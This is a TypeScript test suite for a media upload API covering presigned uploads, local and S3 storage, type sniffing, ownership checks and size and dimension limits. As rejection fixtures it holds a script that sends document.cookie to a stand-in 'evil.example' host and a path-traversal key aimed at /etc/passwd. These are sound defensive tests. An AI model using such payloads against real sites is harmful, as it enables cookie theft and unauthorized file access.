import { randomBytes } from "node:crypto";
import { media, posts } from "@playpal/db";
import type { LocalStorage } from "@playpal/platform";
import { eq } from "drizzle-orm";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { bearer, registerUser, type TestContext, useTestApp } from "#test/context.ts";
import { type FakeS3, startFakeS3 } from "#test/fake-s3.ts";
import { makeImage, multipart } from "#test/multipart.ts";
import { readThroughFeed } from "../feeds/cache.ts";

type User = Awaited<ReturnType<typeof registerUser>>;
interface Presigned {
  key: string;
  url: string;
  expiresIn: number;
  headers: Record<string, string>;
}

const call = (ctx: TestContext, url: string, user: User, payload: unknown) =>
  ctx.app.inject({
    method: "POST",
    url: `/api/v1${url}`,
    headers: bearer(user.token),
    payload: payload as object,
  });

async function createPost(ctx: TestContext, user: User): Promise<string> {
  const [row] = await ctx.db
    .insert(posts)
    .values({ authorId: user.id, body: "look", type: "photos" })
    .returning();
  if (!row) throw new Error("no post");
  return row.id;
}

async function presign(ctx: TestContext, user: User, mimeType: string): Promise<Presigned> {
  const response = await call(ctx, "/media/upload/url", user, { mimeType });
  expect(response.statusCode).toBe(200);
  return response.json();
}

describe("presigned media flow, local storage", () => {
  const ctx = useTestApp();

  /** PUTs through the API's local-mode upload route, exactly where the presigned URL points. */
  const putTo = (presigned: Presigned, body: Buffer, contentType = presigned.headers["content-type"]) => {
    const url = new URL(presigned.url);
    return ctx.app.inject({
      method: "PUT",
      url: `${url.pathname}${url.search}`,
      headers: { "content-type": contentType ?? "" },
      payload: body,
    });
  };

  it("hands out a key under the caller's prefix and a URL valid for 300 s", async () => {
    const user = await registerUser(ctx.app);
    const year = new Date().getUTCFullYear();
    const image = await presign(ctx, user, "image/jpeg");
    expect(image.key).toMatch(new RegExp(`^uploads/${user.id}/images/${year}/[0-9a-f-]{36}\\.jpg$`));
    expect(image.expiresIn).toBe(300);
    expect(image.headers).toEqual({ "content-type": "image/jpeg", "if-none-match": "*" });
    expect(new URL(image.url).pathname).toBe(`/api/v1/storage/upload/${image.key}`);
    const video = await presign(ctx, user, "video/mp4");
    expect(video.key).toMatch(new RegExp(`^uploads/${user.id}/videos/${year}/[0-9a-f-]{36}\\.mp4$`));
    expect((await presign(ctx, user, "image/png")).key).not.toBe((await presign(ctx, user, "image/png")).key);
  });

  it("refuses types outside the image and video allowlist, and a missing type, with 400", async () => {
    const user = await registerUser(ctx.app);
    for (const payload of [
      { mimeType: "text/html" },
      { mimeType: "image/svg+xml" },
      { mimeType: "application/pdf" },
      { mimeType: "" },
      {},
      { mimeType: 42 },
    ]) {
      const response = await call(ctx, "/media/upload/url", user, payload);
      expect(response.statusCode, JSON.stringify(payload)).toBe(400);
      expect(response.json().errors.fieldErrors.mimeType).toBeDefined();
    }
    expect(
      (await ctx.app.inject({ method: "POST", url: "/api/v1/media/upload/url", payload: {} })).statusCode,
    ).toBe(401);
  });

  it("uploads, completes, creates a pending Media row kept private until screened, queues one job and clears the feed cache", async () => {
    const user = await registerUser(ctx.app);
    const postId = await createPost(ctx, user);
    const presigned = await presign(ctx, user, "image/png");
    const bytes = await makeImage(320, 200);
    expect((await putTo(presigned, bytes)).statusCode).toBe(200);
    const storage = ctx.deps.storage as LocalStorage;
    expect(await storage.isPublic(presigned.key)).toBe(false);

    let loads = 0;
    const cachedFeed = () =>
      readThroughFeed(ctx.deps, user.id, "home:test", async () => {
        loads += 1;
        return "{}";
      });
    await cachedFeed();
    await cachedFeed();
    expect(loads).toBe(1);

    const body = { key: presigned.key, postId, mimeType: "image/png", width: 320, height: 200 };
    const response = await call(ctx, "/media/upload/complete", user, body);
    expect(response.statusCode).toBe(200);
    expect(response.json()).toEqual({ ok: true });

    const rows = await ctx.db.select().from(media).where(eq(media.postId, postId));
    expect(rows).toEqual([
      expect.objectContaining({
        ownerId: user.id,
        storageKey: presigned.key,
        mimeType: "image/png",
        kind: "image",
        status: "pending",
        width: 320,
        height: 200,
        position: 0,
      }),
    ]);
    const mediaId = rows[0]?.id as string;
    // Not screened yet: its public URL serves nothing, whatever the post's visibility.
    expect(await storage.isPublic(presigned.key)).toBe(false);
    const served = await ctx.app.inject({
      method: "GET",
      url: new URL(storage.publicUrl(presigned.key)).pathname,
    });
    expect(served.statusCode).toBe(404);

    const job = await ctx.deps.queues.media.getJob(mediaId);
    expect(job?.name).toBe("media.process");
    expect(job?.data).toEqual({
      mediaId,
      postId,
      userId: user.id,
      storageKey: presigned.key,
      mimeType: "image/png",
      requestId: expect.any(String),
    });
    await cachedFeed();
    expect(loads).toBe(2);

    // Completing again is idempotent: same answer, no second row, no second job.
    const again = await call(ctx, "/media/upload/complete", user, body);
    expect(again.statusCode).toBe(200);
    expect(await ctx.db.select().from(media).where(eq(media.postId, postId))).toHaveLength(1);
    const jobs = await ctx.deps.queues.media.getJobs(["waiting", "delayed", "active", "completed", "failed"]);
    expect(jobs.filter((j) => j.data.storageKey === presigned.key)).toHaveLength(1);

    // The same key for another post of the caller is a conflict.
    const otherPost = await createPost(ctx, user);
    const conflict = await call(ctx, "/media/upload/complete", user, { ...body, postId: otherPost });
    expect(conflict.statusCode).toBe(409);
    expect(conflict.json().code).toBe("UPLOAD_ALREADY_USED");
  });

  it("orders several uploads of one post and counts them against MAX_FILES_PER_POST", async () => {
    const user = await registerUser(ctx.app);
    const postId = await createPost(ctx, user);
    const keys: string[] = [];
    for (let i = 0; i < 2; i += 1) {
      const presigned = await presign(ctx, user, "image/webp");
      await putTo(presigned, await makeImage(10 + i, 10, "webp"));
      const response = await call(ctx, "/media/upload/complete", user, {
        key: presigned.key,
        postId,
        mimeType: "image/webp",
        width: 10 + i,
        height: 10,
      });
      expect(response.statusCode).toBe(200);
      keys.push(presigned.key);
    }
    const rows = await ctx.db.select().from(media).where(eq(media.postId, postId)).orderBy(media.position);
    expect(rows.map((r) => [r.storageKey, r.position])).toEqual([
      [keys[0], 0],
      [keys[1], 1],
    ]);
  });

  it("keeps MAX_FILES_PER_POST and distinct positions when many completes for one post race", async () => {
    const user = await registerUser(ctx.app);
    const postId = await createPost(ctx, user);
    const max = ctx.config.MAX_FILES_PER_POST;
    const bodies = [];
    for (let i = 0; i < max + 3; i += 1) {
      const presigned = await presign(ctx, user, "image/png");
      expect((await putTo(presigned, await makeImage(8, 8 + i))).statusCode).toBeLessThan(300);
      bodies.push({ key: presigned.key, postId, mimeType: "image/png", width: 8, height: 8 + i });
    }
    const responses = await Promise.all(bodies.map((b) => call(ctx, "/media/upload/complete", user, b)));
    const statuses = responses.map((r) => r.statusCode).sort();
    expect(statuses.filter((s) => s === 200)).toHaveLength(max);
    expect(statuses.filter((s) => s === 400)).toHaveLength(3);
    for (const refused of responses.filter((r) => r.statusCode === 400)) {
      expect(refused.json().code).toBe("TOO_MANY_FILES");
    }
    const rows = await ctx.db.select().from(media).where(eq(media.postId, postId)).orderBy(media.position);
    expect(rows.map((r) => r.position)).toEqual([...Array(max).keys()]);
  });

  it("refuses another user's key with 403 and another user's post with 404, leaking nothing", async () => {
    const [owner, intruder] = [await registerUser(ctx.app), await registerUser(ctx.app)];
    const ownersPost = await createPost(ctx, owner);
    const intrudersPost = await createPost(ctx, intruder);
    const presigned = await presign(ctx, owner, "image/png");
    await putTo(presigned, await makeImage(8, 8));

    const stealKey = await call(ctx, "/media/upload/complete", intruder, {
      key: presigned.key,
      postId: intrudersPost,
      mimeType: "image/png",
      width: 8,
      height: 8,
    });
    expect(stealKey.statusCode).toBe(403);
    expect(stealKey.json().code).toBe("NOT_YOUR_UPLOAD");

    const own = await presign(ctx, intruder, "image/png");
    await putTo(own, await makeImage(8, 8));
    for (const postId of [ownersPost, "nopost000000000000000000"]) {
      const response = await call(ctx, "/media/upload/complete", intruder, {
        key: own.key,
        postId,
        mimeType: "image/png",
        width: 8,
        height: 8,
      });
      expect(response.statusCode).toBe(404);
      expect(response.json()).toEqual({ message: "Post not found", code: "NOT_FOUND" });
    }
    expect(await ctx.db.select().from(media).where(eq(media.postId, ownersPost))).toHaveLength(0);
    expect(await (ctx.deps.storage as LocalStorage).isPublic(presigned.key)).toBe(false);
  });

  it("answers 400 when nothing was uploaded, the bytes are not the declared image, or the type does not match the key", async () => {
    const user = await registerUser(ctx.app);
    const postId = await createPost(ctx, user);
    const complete = (payload: Record<string, unknown>) => call(ctx, "/media/upload/complete", user, payload);

    const notUploaded = await presign(ctx, user, "image/png");
    const missing = await complete({
      key: notUploaded.key,
      postId,
      mimeType: "image/png",
      width: 1,
      height: 1,
    });
    expect(missing.statusCode).toBe(400);
    expect(missing.json().code).toBe("UPLOAD_MISSING");

    const fake = await presign(ctx, user, "image/png");
    expect((await putTo(fake, Buffer.from("<html><script>alert(1)</script></html>"))).statusCode).toBe(200);
    const notImage = await complete({ key: fake.key, postId, mimeType: "image/png", width: 1, height: 1 });
    expect(notImage.statusCode).toBe(400);
    expect(notImage.json().code).toBe("UNSUPPORTED_MEDIA_TYPE");
    expect(await (ctx.deps.storage as LocalStorage).isPublic(fake.key)).toBe(false);

    const jpeg = await presign(ctx, user, "image/jpeg");
    await putTo(jpeg, await makeImage(4, 4, "jpeg"));
    const wrongType = await complete({ key: jpeg.key, postId, mimeType: "video/mp4", width: 4, height: 4 });
    expect(wrongType.statusCode).toBe(400);
    expect(wrongType.json().code).toBe("MIME_TYPE_MISMATCH");
    const otherImage = await complete({ key: jpeg.key, postId, mimeType: "image/png", width: 4, height: 4 });
    expect(otherImage.json().code).toBe("MIME_TYPE_MISMATCH");
    expect(await ctx.db.select().from(media).where(eq(media.postId, postId))).toHaveLength(0);
  });

  it("validates every field of the complete body with 400", async () => {
    const user = await registerUser(ctx.app);
    const postId = await createPost(ctx, user);
    const key = `uploads/${user.id}/images/2026/${"0".repeat(8)}-0000-4000-8000-${"0".repeat(12)}.png`;
    const valid = { key, postId, mimeType: "image/png", width: 10, height: 10 };
    for (const [field, payload] of [
      ["key", { ...valid, key: `uploads/${user.id}/../../etc/passwd` }],
      ["key", { ...valid, key: "avatars/x/y.webp" }],
      ["key", { ...valid, key: undefined }],
      ["postId", { ...valid, postId: "bad id!" }],
      ["mimeType", { ...valid, mimeType: "text/plain" }],
      ["width", { ...valid, width: -1 }],
      ["width", { ...valid, width: 1.5 }],
      ["width", { ...valid, width: 100_000 }],
      ["height", { ...valid, height: "10" }],
      ["height", { ...valid, height: undefined }],
    ] as const) {
      const response = await call(ctx, "/media/upload/complete", user, payload);
      expect(response.statusCode, JSON.stringify(payload)).toBe(400);
      expect(response.json().errors.fieldErrors[field]).toBeDefined();
    }
  });
});

describe("S3 storage (s3rver): presigned media flow and profile images", () => {
  let s3: FakeS3;
  beforeAll(async () => {
    s3 = await startFakeS3();
  });
  afterAll(async () => {
    await s3?.close();
  });
  const ctx = useTestApp(() => ({
    S3_BUCKET: s3.bucket,
    S3_ENDPOINT: s3.endpoint,
    S3_FORCE_PATH_STYLE: "true",
    S3_ACCESS_KEY_ID: s3.accessKeyId,
    S3_SECRET_ACCESS_KEY: s3.secretAccessKey,
    MAX_UPLOAD_BYTES: String(64 * 1024),
  }));

  it("presigns a PUT to the bucket, and complete sets the private ACL (not screened yet) and queues the job", async () => {
    expect(ctx.deps.storage.kind).toBe("s3");
    const user = await registerUser(ctx.app);
    const postId = await createPost(ctx, user);
    const presigned = await presign(ctx, user, "image/jpeg");
    expect(presigned.url.startsWith(`${s3.endpoint}/${s3.bucket}/${presigned.key}?`)).toBe(true);
    const bytes = await makeImage(40, 30, "jpeg");
    const put = await fetch(presigned.url, { method: "PUT", headers: presigned.headers, body: bytes });
    expect(put.status).toBe(200);
    expect(s3.aclOf(presigned.key)).toBeUndefined();

    const response = await call(ctx, "/media/upload/complete", user, {
      key: presigned.key,
      postId,
      mimeType: "image/jpeg",
      width: 40,
      height: 30,
    });
    expect(response.statusCode).toBe(200);
    expect(s3.aclOf(presigned.key)).toBe("private");
    const [row] = await ctx.db.select().from(media).where(eq(media.storageKey, presigned.key));
    expect(row?.status).toBe("pending");
    expect((await ctx.deps.queues.media.getJob(row?.id as string))?.data.storageKey).toBe(presigned.key);
    expect(ctx.deps.storage.publicUrl(presigned.key)).toBe(`${s3.endpoint}/${s3.bucket}/${presigned.key}`);
  });

  it("deletes an object bigger than MAX_UPLOAD_BYTES (a presigned PUT cannot cap it) and answers 413", async () => {
    const user = await registerUser(ctx.app);
    const postId = await createPost(ctx, user);
    const presigned = await presign(ctx, user, "video/mp4");
    const put = await fetch(presigned.url, {
      method: "PUT",
      headers: presigned.headers,
      body: randomBytes(100 * 1024),
    });
    expect(put.status).toBe(200);
    const response = await call(ctx, "/media/upload/complete", user, {
      key: presigned.key,
      postId,
      mimeType: "video/mp4",
      width: 1920,
      height: 1080,
    });
    expect(response.statusCode).toBe(413);
    expect(await ctx.deps.storage.head(presigned.key)).toBeNull();
    expect(await ctx.db.select().from(media).where(eq(media.postId, postId))).toHaveLength(0);
  });

  /** Presigns, PUTs `bytes` straight to the bucket, then completes with `overrides` on the body. */
  async function uploadAndComplete(mimeType: string, bytes: Buffer, overrides: Record<string, unknown> = {}) {
    const user = await registerUser(ctx.app);
    const postId = await createPost(ctx, user);
    const presigned = await presign(ctx, user, mimeType);
    const put = await fetch(presigned.url, { method: "PUT", headers: presigned.headers, body: bytes });
    expect(put.status).toBe(200);
    const response = await call(ctx, "/media/upload/complete", user, {
      key: presigned.key,
      postId,
      mimeType,
      width: 1920,
      height: 1080,
      ...overrides,
    });
    return { response, key: presigned.key, postId };
  }

  it("refuses bytes that are not the declared video type (HTML as video/mp4) with 400, as the multipart path does, and deletes them", async () => {
    const html = Buffer.from(
      `<!doctype html><html><body><script>document.location="https://evil.example/?c="+document.cookie</script>${"<p>x</p>".repeat(50)}</body></html>`,
    );
    const webm = Buffer.concat([Buffer.from([0x1a, 0x45, 0xdf, 0xa3]), Buffer.alloc(60, 0)]);
    for (const [mimeType, bytes] of [
      ["video/mp4", html],
      ["video/webm", html],
      ["video/quicktime", Buffer.from("just some text, no video at all")],
      ["video/mp4", webm],
      ["video/mp4", await makeImage(8, 8, "jpeg")],
    ] as const) {
      const { response, key, postId } = await uploadAndComplete(mimeType, bytes);
      expect(response.statusCode, mimeType).toBe(400);
      expect(response.json().code).toBe("UNSUPPORTED_MEDIA_TYPE");
      expect(s3.aclOf(key)).toBeUndefined();
      expect(await ctx.deps.storage.head(key)).toBeNull();
      expect(await ctx.db.select().from(media).where(eq(media.postId, postId))).toHaveLength(0);
    }
  });

  it("sniffs the first bytes with one ranged GET and accepts a real MP4, QuickTime or WebM", async () => {
    const mp4 = Buffer.concat([
      Buffer.from([0, 0, 0, 0x18]),
      Buffer.from("ftypisom", "latin1"),
      Buffer.alloc(12, 0),
      randomBytes(32 * 1024),
    ]);
    const mov = Buffer.concat([
      Buffer.from([0, 0, 0, 0x14]),
      Buffer.from("ftypqt  ", "latin1"),
      Buffer.alloc(8),
    ]);
    const webm = Buffer.concat([
      Buffer.from("1a45dfa3974286810142f7810142f2810442f381084282847765626d", "hex"),
      Buffer.alloc(32),
    ]);
    for (const [mimeType, bytes] of [
      ["video/mp4", mp4],
      ["video/quicktime", mov],
      ["video/webm", webm],
    ] as const) {
      const before = s3.requests.length;
      const { response, key } = await uploadAndComplete(mimeType, bytes);
      expect(response.statusCode, mimeType).toBe(200);
      expect(s3.aclOf(key)).toBe("private");
      const gets = s3.requests
        .slice(before)
        .filter((r) => r.method === "GET" && r.path.endsWith(key) && !r.query.has("acl"));
      expect(gets.map((r) => r.headers.range)).toEqual(["bytes=0-4099"]);
    }
  });

  it("refuses declared dimensions beyond what the multipart path accepts", async () => {
    const png = await makeImage(8, 8);
    for (const [field, dims] of [
      ["width", { width: 100_000, height: 100_000 }],
      ["width", { width: 16_385, height: 10 }],
      ["height", { width: 10, height: 16_385 }],
    ] as const) {
      const { response } = await uploadAndComplete("image/png", png, dims);
      expect(response.statusCode, JSON.stringify(dims)).toBe(400);
      expect(response.json().code).toBe("VALIDATION_FAILED");
      expect(response.json().errors.fieldErrors[field]).toBeDefined();
    }
    // Within the sides but over the pixels the media worker decodes (MEDIA_MAX_IMAGE_PIXELS).
    const { response, postId } = await uploadAndComplete("image/png", png, { width: 16_000, height: 16_000 });
    expect(response.statusCode).toBe(400);
    expect(response.json()).toMatchObject({
      code: "VALIDATION_FAILED",
      errors: { fieldErrors: { width: [expect.any(String)], height: [expect.any(String)] } },
    });
    expect(await ctx.db.select().from(media).where(eq(media.postId, postId))).toHaveLength(0);
    const fine = await uploadAndComplete("image/png", png, { width: 8, height: 8 });
    expect(fine.response.statusCode).toBe(200);
  });

  it("stores avatars as public-read objects and deletes the replaced one from the bucket", async () => {
    const user = await registerUser(ctx.app);
    const upload = async () => {
      const body = multipart({}, [
        { field: "file", filename: "a.png", contentType: "image/png", data: await makeImage(64, 64) },
      ]);
      const response = await ctx.app.inject({
        method: "POST",
        url: "/api/v1/user/avatar",
        headers: { ...bearer(user.token), ...body.headers },
        payload: body.payload,
      });
      expect(response.statusCode).toBe(200);
      const url = response.json().avatarUrl as string;
      expect(url.startsWith(`${s3.endpoint}/${s3.bucket}/avatars/${user.id}/`)).toBe(true);
      return url.slice(`${s3.endpoint}/${s3.bucket}/`.length);
    };
    const first = await upload();
    expect(s3.aclOf(first)).toBe("public-read");
    expect(await ctx.deps.storage.head(first)).toMatchObject({ contentType: "image/webp" });
    const second = await upload();
    expect(await ctx.deps.storage.head(second)).not.toBeNull();
    expect(await ctx.deps.storage.head(first)).toBeNull();
  });
});
